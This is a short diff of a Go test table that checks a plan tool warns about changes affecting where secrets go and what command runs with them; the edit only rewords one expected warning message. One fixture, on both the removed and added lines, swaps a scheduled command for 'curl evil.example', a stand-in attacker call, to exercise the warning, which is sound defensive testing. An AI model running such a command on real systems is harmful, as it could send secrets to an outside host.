@@ -22,7 +22,7 @@ func TestAPlanTellsWhatAChangeDoesWithSecrets(t *testing.T) {
 		warned, notWarnedOf string
 	}{
 		{"a secret goes to more peels", one, both, "{}\n", "{}\n", "the secret db.password goes to peels that did not have it", "what is run with it"},
-		{"a plain file replaces the command", both, both, plain("dump"), plain("'curl evil.example'"), "schedule.dump has a secret, and what is run with it changes", "did not have it"},
+		{"a plain file replaces the command", both, both, plain("dump"), plain("'curl evil.example'"), "schedule.dump has a secret, and its function or arguments change", "did not have it"},
 		{"another time alone", both, both, "{}\n", "schedule:\n  dump: {interval: 2h}\n", "", "secret"},
 		{"a peel loses it", both, one, "{}\n", "{}\n", "", "did not have it"},
 	} {
